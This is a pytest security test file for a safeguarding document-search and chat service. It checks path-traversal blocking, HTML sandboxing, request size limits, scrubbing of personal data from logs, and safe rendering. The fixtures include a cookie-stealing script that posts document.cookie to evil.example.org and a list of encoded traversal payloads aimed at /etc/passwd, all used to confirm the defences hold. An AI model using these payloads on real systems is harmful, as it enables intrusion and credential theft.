"""Security of the public service: no file outside the corpus can be read, served documents cannot
run scripts on our origin, oversized bodies are refused, what practitioners type never reaches the
logs, and the chat page never renders server text as HTML.

Runs a real `safeguard serve` over a small ingested corpus; traversal attempts are sent as raw HTTP
so no client library normalises the dot segments or encodings away first.
"""

from __future__ import annotations

import re
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.conftest import REPO, LiveServer, run_cli, write_corpus

SCRIPTED_PAGE = """<html><head><title>Escalation</title></head><body>
<h1>Escalation policy</h1><p>Escalate a disagreement about a child to the worker's manager within five working days.</p>
<script>document.location = "https://evil.example.org/?c=" + document.cookie</script></body></html>"""

Served = tuple[LiveServer, Path]

# Fictional personal details of the kind a worried practitioner types in.
PERSONAL = {
    "name": "Jessamy Wolstenholme",
    "phone": "01632 960472",
    "nhs": "943 476 5919",
    "postcode": "AB1 2CD",
    "email": "j.wolstenholme@example.org",
}
QUESTION = (f"I am worried about {PERSONAL['name']}, born 2019, of 14 Mill Lane {PERSONAL['postcode']}, "
            f"NHS number {PERSONAL['nhs']}; her mum's phone is {PERSONAL['phone']} and email "
            f"{PERSONAL['email']}. Who do I ring about a bruise?")


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    root = tmp_path_factory.mktemp("security")
    corpus = write_corpus(root / "docs")
    (corpus / "anyshire" / "escalation.html").write_text(SCRIPTED_PAGE)
    (root / "secret.txt").write_text("SECRET-OUTSIDE-THE-CORPUS")
    data = root / "data"
    done = run_cli("ingest", str(corpus), "--data-dir", str(data))
    assert done.returncode == 0, done.stderr
    server = LiveServer(data, env={"SAFEGUARD_RATE_LIMIT_PER_MINUTE": "0"})
    yield server, root
    server.stop()


def raw_get(url: str, path: str) -> tuple[int, dict[str, str], bytes]:
    """GET exactly this request target (no normalisation), return status, headers, body."""
    host, port = url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode("latin-1"))
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    head, _, body = b"".join(chunks).partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split()[1])
    headers = {k.strip().lower(): v.strip() for k, _, v in (ln.partition(":") for ln in lines[1:])}
    return status, headers, body


TRAVERSALS = [
    "/api/documents/../../../../etc/passwd",
    "/api/documents/..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "/api/documents/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/api/documents/%252e%252e%252fetc%252fpasswd",
    "/api/documents/..%5c..%5c..%5cetc%5cpasswd",
    "/api/documents//etc/passwd",
    "/api/documents/%2Fetc%2Fpasswd",
    "/api/documents/{root}/secret.txt",
    "/api/documents/%2F{root_enc}%2Fsecret.txt",
    "/api/documents/../secret.txt",
    "/api/documents/lado.md%00.html",
    "/api/documents/%00",
    "/api/documents/%00../../etc/passwd",
    "/api/documents/..",
    "/api/documents/.",
    "/api/documents/~root",
    "/api/documents/file:%2F%2F%2Fetc%2Fpasswd",
]


def test_documents_endpoint_never_reads_outside_the_corpus(served: Served) -> None:
    server, root = served
    for attempt in TRAVERSALS:
        path = attempt.format(root=str(root).lstrip("/"), root_enc=str(root).lstrip("/").replace("/", "%2F"))
        status, _, body = raw_get(server.url, path)
        assert status in (400, 404, 422), (path, status, body[:200])
        assert b"root:" not in body and b"SECRET-OUTSIDE" not in body and b"Anyshire LADO" not in body, path


def test_a_catalogued_document_is_served_and_ids_are_the_only_way_in(served: Served) -> None:
    server, _ = served
    results = httpx.post(server.url + "/api/search", json={"query": "LADO contact", "top_k": 3}, timeout=10).json()
    doc_id = results["results"][0]["doc_id"]
    status, _, body = raw_get(server.url, f"/api/documents/{doc_id}")
    assert status == 200 and b"LADO" in body  # the real endpoint works, so the 404s above mean something
    status, _, body = raw_get(server.url, f"/api/documents/{doc_id}/../../../etc/passwd")
    assert status in (400, 404, 422) and b"root:" not in body


def test_served_html_is_sandboxed(served: Served) -> None:
    server, _ = served
    results = httpx.post(server.url + "/api/search", json={"query": "escalate disagreement manager"}, timeout=10).json()
    doc_id = next(r["doc_id"] for r in results["results"] if r["title"].startswith("Escalation"))
    status, headers, body = raw_get(server.url, f"/api/documents/{doc_id}")
    assert status == 200 and b"<script>" in body  # the original file, scripts and all...
    csp = headers.get("content-security-policy", "")
    assert re.search(r"(^|;)\s*sandbox\s*(;|$)", csp), csp  # ...in a sandbox: an opaque origin, no scripts
    assert "script-src" not in csp or "'none'" in csp
    assert headers.get("x-content-type-options") == "nosniff"


def test_oversized_request_bodies_are_refused(served: Served) -> None:
    server, _ = served
    start = time.monotonic()
    huge = {"message": "Who is the LADO? " * 200_000}  # about 3.4 MB
    response = httpx.post(server.url + "/api/chat", json=huge, timeout=30)
    assert response.status_code == 413, response.status_code
    assert "detail" in response.json()
    assert time.monotonic() - start < 10
    over = {"query": "x" * 20_000}  # just over the 16 kB default (SAFEGUARD_MAX_REQUEST_BYTES)
    assert httpx.post(server.url + "/api/search", json=over, timeout=10).status_code == 413
    assert httpx.get(server.url + "/healthz", timeout=5).status_code == 200


def test_personal_data_typed_by_practitioners_never_reaches_the_logs(served: Served) -> None:
    server, _ = served
    session = None
    for endpoint, body in (("/api/chat", {"message": QUESTION}), ("/api/search", {"query": QUESTION}),
                           ("/api/chat/stream", {"message": QUESTION}), ("/api/chat", {"message": QUESTION * 40}),
                           ("/api/chat", {"message": QUESTION, "partnership": PERSONAL["name"]})):
        response = httpx.post(server.url + endpoint, json=body, timeout=20)
        assert response.status_code < 500, (endpoint, response.status_code)
        if endpoint == "/api/chat" and response.status_code == 200:
            session = response.json()["session_id"]
    assert session
    httpx.post(server.url + "/api/feedback", json={"answer_id": "nope", "rating": "down",
                                                   "comment": f"call {PERSONAL['phone']}"}, timeout=10)
    time.sleep(0.5)
    log = server.output()
    assert "/api/chat" in log and "/api/search" in log  # captured: an empty log would pass the checks below
    for kind, value in PERSONAL.items():
        for form in {value, value.replace(" ", ""), value.lower()}:
            assert form not in log, f"{kind} found in server log"


def test_chat_page_renders_server_text_as_text_only() -> None:
    page = (REPO / "bot" / "static" / "chat.html").read_text(encoding="utf-8")
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function"):
        assert sink not in page, sink
    assert "textContent" in page
